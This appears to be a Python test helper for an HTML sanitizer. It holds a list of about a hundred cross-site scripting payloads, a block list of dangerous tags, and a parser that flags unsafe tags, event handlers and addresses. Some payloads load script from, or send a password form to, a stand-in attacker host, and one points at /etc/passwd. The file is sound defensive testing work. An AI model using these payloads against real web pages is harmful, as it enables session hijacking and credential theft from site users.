"""A stage for what strangers write."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src onerror=alert(1)>'></noframes>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<style><img title='</style><img src onerror=alert(1)>'></style>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1) //>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img \x00src=x onerror="alert(1)">',
    "<img src=x onerror\x0b=alert(1)>",
    "<img '><script>alert(1)</script>'>",
    "<img srcset='https://evil.example/x 1x' src=https://evil.example/track>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<keygen autofocus onfocus=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='data:text/html,x'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>over everything</p>",
    "<p id=main class='dialog danger'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='intent://evil#Intent;scheme=http;end'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://evil.example/' onclick=alert(1) onmouseover=alert(1) style='x' target=_self ping=//evil.example>x</a>",
    "<a name=x href='https://evil.example/\" onclick=\"alert(1)'>x</a>",
    '<p>"><img src=x onerror=alert(1)></p>',
    "'\"><svg/onload=alert(1)>",
    "'-alert(1)-'",
    "</p></div></article></main></body></html><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u202e<script>alert(1)</script>\u202c",
    "<p>\ufeff<img\ufeff src=x onerror=alert(1)></p>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    ':x"onerror=alert(1):',
    'https://evil.example/"onmouseover="alert(1)',
    "<a class='mention u-url' href='https://evil.example/'>@<span onclick=alert(1)>anna</span></a>",
]  # fmt: skip
HARMFUL = {
    "script", "iframe", "object", "embed", "applet", "base", "frame", "frameset", "svg", "math", "style",
    "template", "marquee", "isindex", "keygen", "foreignobject", "noembed", "xmp", "plaintext", "video", "audio",
}  # fmt: skip
ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "ping"}


class Look(HTMLParser):
    """What a browser would take for markup: `wrong` is what must not be there. `ours`: addresses that
    the page itself loads things from."""

    def __init__(self, *, page: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.wrong: list[str] = []
        self.links: list[dict[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and self.page and given.get("src", "").startswith("/static/"):
            return
        ours = self.page and tag == "svg" and given.get("aria-hidden") == "true"
        if tag in HARMFUL and not ours:
            self.wrong.append(f"<{tag} {given}>")
        if not self.page and tag in ("img", "form", "input", "button", "meta", "link", "body", "html"):
            self.wrong.append(f"<{tag} {given}>")
        for name, value in given.items():
            said = re.sub(r"[\x00-\x20]", "", value).lower()
            if (
                name.startswith("on")
                or name in ("srcdoc", "style", "xlink:href", "ping")
                or (name in ADDRESSES and not self._good(tag, name, said))
            ):
                self.wrong.append(f"{tag} {name}={value}")
        if tag == "a":
            self.links.append(given)

    def _good(self, tag: str, name: str, said: str) -> bool:
        if self.page and name in ("src", "action", "formaction"):
            return said.startswith("/") and not said.startswith("//")
        if self.page and tag in ("link", "use"):
            return said.startswith(("/", "#", "https://a.example/")) and not said.startswith("//")
        if said.startswith(("https://", "http://")):
            return "@" not in said.partition("://")[2].partition("/")[0]
        return self.page and said.startswith(("/", "#", "?")) and not said.startswith("//")


def wrong(text: str, *, page: bool = False) -> list[str]:
    look = Look(page=page)
    look.feed(text)
    look.close()
    return look.wrong
